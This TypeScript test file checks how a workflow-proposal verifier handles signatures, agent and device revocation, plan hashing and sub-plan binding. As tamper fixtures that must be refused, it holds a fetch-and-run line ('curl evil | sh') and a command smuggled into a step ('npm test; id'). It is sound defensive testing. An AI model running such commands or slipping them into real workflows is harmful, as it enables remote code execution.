import { describe, expect, it } from 'vitest';
import { agentProposalKey, agentSecretSha256 } from '../agents.js';
import { fromBase64, toBase64, utf8ToBytes } from '../bytes.js';
import { signDeviceRecord } from '../devices/records.js';
import { DeviceRegistry } from '../devices/registry.js';
import { keyPairFromSecret, type KeyPair } from '../keys.js';
import { validatePlan } from '../plan/validate.js';
import { planSteps } from '../plan/walk.js';
import { signApproval } from './approval.js';
import { PAYLOAD_TYPES, signEnvelope, type Envelope } from './dsse.js';
import {
  planSha256,
  ProposalRefused,
  signProposal,
  subPlanHashes,
  verifyProposal,
  verifyProposedStep,
  type ProposalPayload,
} from './proposal.js';

// ---------------------------------------------------------------------------------------------
// Fixture: a root, an approver, the policy key, a revoked device; an agent with a proposal key,
// one whose token predates signed proposals, and a revoked one.
// ---------------------------------------------------------------------------------------------

const keyFrom = (n: number): KeyPair => keyPairFromSecret(new Uint8Array(32).fill(n));
const root = keyFrom(1);
const approver = keyFrom(2);
const policyKey = keyFrom(3);
const retired = keyFrom(4);
const stranger = keyFrom(5);

const AT = '2030-01-01T00:00:00.000Z';
const AGENT = '0123456789abcdef';
const OLD_AGENT = '1111111111111111';
const GONE_AGENT = '2222222222222222';
const UNKNOWN_AGENT = '3333333333333333';
const secretOf = (agentId: string) => `secret-of-${agentId}-0123456789abcdefghij`;
const agentKey = (agentId: string) => agentProposalKey(secretOf(agentId));

const introduce = (device: KeyPair, name: string, role: 'approver' | 'policy') =>
  signDeviceRecord({ type: 'introduce', publicKey: toBase64(device.publicKey), name, role, at: AT }, root);
const issue = (agentId: string, withKey: boolean) =>
  signDeviceRecord(
    {
      type: 'issue-agent',
      agentId,
      name: `agent ${agentId.slice(0, 4)}`,
      secretSha256: agentSecretSha256(secretOf(agentId)),
      ...(withKey ? { proposalKey: toBase64(agentKey(agentId).publicKey) } : {}),
      at: AT,
    },
    approver,
  );
const registry = DeviceRegistry.fromRecords(
  [
    signDeviceRecord(
      { type: 'enroll-root', publicKey: toBase64(root.publicKey), name: 'root phone', at: AT },
      root,
    ),
    introduce(approver, 'laptop', 'approver'),
    introduce(policyKey, 'policy', 'policy'),
    introduce(retired, 'old phone', 'approver'),
    signDeviceRecord(
      { type: 'revoke', keyId: retired.keyId, reason: 'lost', at: '2030-01-02T00:00:00.000Z' },
      root,
    ),
    issue(AGENT, true),
    issue(OLD_AGENT, false),
    issue(GONE_AGENT, true),
    signDeviceRecord(
      { type: 'revoke-agent', agentId: GONE_AGENT, reason: 'leaked', at: '2030-01-03T00:00:00.000Z' },
      root,
    ),
  ],
  root.keyId,
);

const WORKFLOW = 'plan-abc123';
const raw = { name: 'release', steps: [{ id: 'test', run: 'npm test', approval: 'auto' }] };

function payload(overrides: Partial<ProposalPayload> = {}): ProposalPayload {
  return {
    workflowId: WORKFLOW,
    planName: 'release',
    planSha256: planSha256(raw),
    subPlans: {},
    proposer: { device: root.keyId },
    at: AT,
    ...overrides,
  };
}
const byDevice = signProposal(payload(), root);
const byAgent = signProposal(payload({ proposer: { agent: AGENT } }), agentKey(AGENT));

const expectation = (overrides: { workflowId?: string; raw?: unknown } = {}) => ({
  workflowId: WORKFLOW,
  registry,
  ...overrides,
});

/** The message verifyProposal refuses with; fails the test when it accepts or throws anything else. */
function refusal(envelope: unknown, expect_ = expectation()): string {
  try {
    verifyProposal(envelope, expect_);
  } catch (error) {
    if (error instanceof ProposalRefused) return error.message;
    throw new Error(`expected ProposalRefused, got ${String(error)}`);
  }
  throw new Error('expected the proposal to be refused, but it was accepted');
}

const signText = (text: string, key: KeyPair): Envelope =>
  signEnvelope(PAYLOAD_TYPES.proposal, utf8ToBytes(text), key.secretKey, key.keyId);

// ---------------------------------------------------------------------------------------------

describe('verifyProposal: proposals it accepts', () => {
  it("accepts a person's device's proposal", () => {
    expect(verifyProposal(byDevice, expectation())).toEqual({
      proposer: { device: root.keyId },
      planName: 'release',
      workflowId: WORKFLOW,
    });
    const byApprover = signProposal(payload({ proposer: { device: approver.keyId } }), approver);
    expect(verifyProposal(byApprover, expectation()).proposer).toEqual({ device: approver.keyId });
  });

  it("accepts an agent's proposal, signed with the key its token derives", () => {
    expect(verifyProposal(byAgent, expectation())).toEqual({
      proposer: { agent: AGENT },
      planName: 'release',
      workflowId: WORKFLOW,
    });
    expect(registry.agent(AGENT)?.proposalKey).toEqual(agentKey(AGENT).publicKey);
  });

  it('derives the same key from the same secret, and another from another', () => {
    expect(agentProposalKey(secretOf(AGENT))).toEqual(agentKey(AGENT));
    expect(agentKey(AGENT).publicKey).not.toEqual(agentKey(OLD_AGENT).publicKey);
  });

  it('accepts the plan it signed, whatever the key order', () => {
    const reordered = { steps: [{ approval: 'auto', run: 'npm test', id: 'test' }], name: 'release' };
    expect(verifyProposal(byDevice, expectation({ raw })).planName).toBe('release');
    expect(verifyProposal(byDevice, expectation({ raw: reordered })).planName).toBe('release');
  });

  it('accepts it for a sub-plan of the proposed plan, and reports the top plan', () => {
    for (const workflowId of [`${WORKFLOW}.build`, `${WORKFLOW}.build.deeper`])
      expect(verifyProposal(byDevice, expectation({ workflowId })).workflowId).toBe(WORKFLOW);
  });
});

describe('verifyProposal: refusals', () => {
  const hashDiffers = 'the plan is not the one the proposal signed (its hash differs)';
  const cases: [string, unknown, ReturnType<typeof expectation>, string][] = [
    [
      'another workflow',
      byDevice,
      expectation({ workflowId: 'plan-other' }),
      `the proposal is for ${WORKFLOW}, not plan-other`,
    ],
    [
      'a workflow that only starts with the same characters',
      byDevice,
      expectation({ workflowId: `${WORKFLOW}x` }),
      `the proposal is for ${WORKFLOW}, not ${WORKFLOW}x`,
    ],
    [
      "the parent of the proposal's workflow",
      signProposal(payload({ workflowId: `${WORKFLOW}.build` }), root),
      expectation(),
      `the proposal is for ${WORKFLOW}.build, not ${WORKFLOW}`,
    ],
    ['another plan', byDevice, expectation({ raw: { ...raw, name: 'release2' } }), hashDiffers],
    [
      'a plan with one more step',
      byDevice,
      expectation({ raw: { ...raw, steps: [...raw.steps, { id: 'x', run: 'id' }] } }),
      hashDiffers,
    ],
    [
      'a plan that is not plain JSON',
      byDevice,
      expectation({ raw: { name: 'release', n: Number.NaN } }),
      hashDiffers,
    ],
    ['a plan of null', byDevice, expectation({ raw: null }), hashDiffers],
    [
      'an unknown device',
      signProposal(payload({ proposer: { device: stranger.keyId } }), stranger),
      expectation(),
      `device ${stranger.keyId} is not a paired person's device`,
    ],
    [
      'the policy key as proposer',
      signProposal(payload({ proposer: { device: policyKey.keyId } }), policyKey),
      expectation(),
      `device ${policyKey.keyId} is not a paired person's device`,
    ],
    [
      'a revoked device',
      signProposal(payload({ proposer: { device: retired.keyId } }), retired),
      expectation(),
      'device "old phone" was revoked at 2030-01-02T00:00:00.000Z',
    ],
    [
      'an unknown agent',
      signProposal(payload({ proposer: { agent: UNKNOWN_AGENT } }), agentKey(UNKNOWN_AGENT)),
      expectation(),
      `agent ${UNKNOWN_AGENT} is not known`,
    ],
    [
      'a revoked agent',
      signProposal(payload({ proposer: { agent: GONE_AGENT } }), agentKey(GONE_AGENT)),
      expectation(),
      'agent "agent 2222" was revoked at 2030-01-03T00:00:00.000Z',
    ],
    [
      'an agent whose token predates signed proposals',
      signProposal(payload({ proposer: { agent: OLD_AGENT } }), agentKey(OLD_AGENT)),
      expectation(),
      'agent "agent 1111" has a token from before signed proposals: issue it a new token',
    ],
    [
      'an agent proposal signed by another agent',
      signProposal(payload({ proposer: { agent: AGENT } }), agentKey(GONE_AGENT)),
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      "a device's proposal signed by another device",
      signProposal(payload({ proposer: { device: root.keyId } }), approver),
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      "a device's proposal signed by an agent",
      signProposal(payload({ proposer: { device: root.keyId } }), agentKey(AGENT)),
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      "an agent's proposal signed by the device that issued it",
      signProposal(payload({ proposer: { agent: AGENT } }), approver),
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      'a payload changed after signing',
      { ...byDevice, payload: toBase64(utf8ToBytes(JSON.stringify({ ...payload(), planName: 'other' }))) },
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      'a payload moved to another proposer after signing',
      {
        ...byAgent,
        payload: toBase64(utf8ToBytes(JSON.stringify(payload({ proposer: { device: root.keyId } })))),
      },
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      'a signature with a flipped bit',
      {
        ...byDevice,
        signatures: [
          {
            keyid: root.keyId,
            sig: toBase64(fromBase64(byDevice.signatures[0].sig).map((b, i) => (i === 0 ? b ^ 1 : b))),
          },
        ],
      },
      expectation(),
      'the proposal signature does not verify',
    ],
    [
      'a proposal signed as another payload type',
      {
        ...signEnvelope(PAYLOAD_TYPES.approval, fromBase64(byDevice.payload), root.secretKey, root.keyId),
        payloadType: PAYLOAD_TYPES.proposal,
      },
      expectation(),
      'the proposal signature does not verify',
    ],
    ['null', null, expectation(), 'the proposal is malformed: envelope is not an object'],
    [
      'an approval envelope',
      signApproval(
        {
          workflowId: WORKFLOW,
          runId: 'r',
          stepPath: 's',
          stepDigest: 'a'.repeat(64),
          decision: 'approve',
          nowMs: Date.parse(AT),
          nonce: 'nonce-0123456789abcdef',
        },
        root,
      ),
      expectation(),
      `the proposal is malformed: payloadType is "${PAYLOAD_TYPES.approval}"; expected ${PAYLOAD_TYPES.proposal}`,
    ],
    [
      'two signatures',
      { ...byDevice, signatures: [byDevice.signatures[0], byDevice.signatures[0]] },
      expectation(),
      'the proposal is malformed: envelope must carry exactly one signature',
    ],
    [
      'an extra envelope field',
      { ...byDevice, proposer: 'me' },
      expectation(),
      'the proposal is malformed: envelope has fields payload,payloadType,proposer,signatures; expected payload, payloadType, signatures',
    ],
    ['a payload that is not JSON', signText('{', root), expectation(), 'the proposal payload is malformed'],
    [
      'a payload with an extra field',
      signText(JSON.stringify({ ...payload(), trusted: true }), root),
      expectation(),
      'the proposal payload is malformed',
    ],
    [
      'a payload naming both a device and an agent',
      signText(JSON.stringify({ ...payload(), proposer: { device: root.keyId, agent: AGENT } }), root),
      expectation(),
      'the proposal payload is malformed',
    ],
    [
      'a payload with a short plan hash',
      signText(JSON.stringify({ ...payload(), planSha256: 'abc' }), root),
      expectation(),
      'the proposal payload is malformed',
    ],
    [
      'a payload with a time that is not a time',
      signText(JSON.stringify({ ...payload(), at: 'yesterday' }), root),
      expectation(),
      'the proposal payload is malformed',
    ],
  ];
  it.each(cases)('refuses %s', (_what, envelope, expect_, message) => {
    expect(refusal(envelope, expect_)).toBe(message);
  });

  it('checks the registry it is given: an agent issued later is unknown to an older registry', () => {
    const older = DeviceRegistry.fromRecords(registry.records.slice(0, 5), root.keyId);
    expect(refusal(byAgent, { ...expectation(), registry: older })).toBe(`agent ${AGENT} is not known`);
  });
});

describe('planSha256', () => {
  it('hashes canonical JSON under a domain, so key order does not matter and values do', () => {
    expect(planSha256({ a: 1, b: 2 })).toBe(planSha256({ b: 2, a: 1 }));
    expect(planSha256({ a: 1 })).not.toBe(planSha256({ a: 2 }));
    expect(planSha256(raw)).toMatch(/^[0-9a-f]{64}$/);
    expect(() => planSha256({ n: Number.POSITIVE_INFINITY })).toThrow();
  });
});

describe('proposals bind sub-plans and steps', () => {
  const withSubPlans = {
    name: 'release',
    steps: [
      { id: 'test', run: 'npm test', approval: 'auto' },
      { id: 'docs', plan: { name: 'docs', steps: [{ id: 'write', run: 'make docs', approval: 'auto' }] } },
    ],
  };
  const docs = withSubPlans.steps[1]!.plan!;
  const spec = validatePlan(withSubPlans);
  const signed = signProposal(
    payload({ planSha256: planSha256(withSubPlans), subPlans: subPlanHashes(spec) }),
    root,
  );
  const stepOf = (raw: unknown, path: string) => planSteps(validatePlan(raw)).find((s) => s.path === path)!;

  it('signs a hash per sub-plan, by its path of ids', () => {
    expect(subPlanHashes(spec)).toEqual({ docs: planSha256(docs) });
  });

  it('accepts the sub-plan it signed at its place, and refuses another there or one it never signed', () => {
    expect(verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.docs`, raw: docs })).planName).toBe(
      'release',
    );
    const other = { name: 'docs', steps: [{ id: 'write', run: 'curl evil | sh', approval: 'auto' }] };
    expect(() => verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.docs`, raw: other }))).toThrow(
      'the sub-plan "docs" is not one the proposal signed',
    );
    expect(() => verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.evil`, raw: docs }))).toThrow(
      'the sub-plan "evil" is not one the proposal signed',
    );
    expect(() =>
      verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.constructor`, raw: docs })),
    ).toThrow('is not one the proposal signed');
  });

  it('verifyProposedStep accepts a step of the signed plan as it is there, and nothing else', () => {
    const at = { workflowId: WORKFLOW, registry, raw: withSubPlans };
    expect(verifyProposedStep(signed, { ...at, step: stepOf(withSubPlans, 'test') }).proposer).toEqual({
      device: root.keyId,
    });
    const changed = stepOf(
      { name: 'x', steps: [{ id: 'test', run: 'npm test; id', approval: 'auto' }] },
      'test',
    );
    expect(() => verifyProposedStep(signed, { ...at, step: changed })).toThrow(
      'step "test" is not the step the signed plan has there',
    );
    const elsewhere = stepOf(
      { name: 'x', steps: [{ id: 'other', run: 'npm test', approval: 'auto' }] },
      'other',
    );
    expect(() => verifyProposedStep(signed, { ...at, step: elsewhere })).toThrow(
      'is not the step the signed plan has',
    );
    expect(() =>
      verifyProposedStep(signed, { ...at, raw: undefined, step: stepOf(withSubPlans, 'test') }),
    ).toThrow('the signed plan does not validate');
  });
});
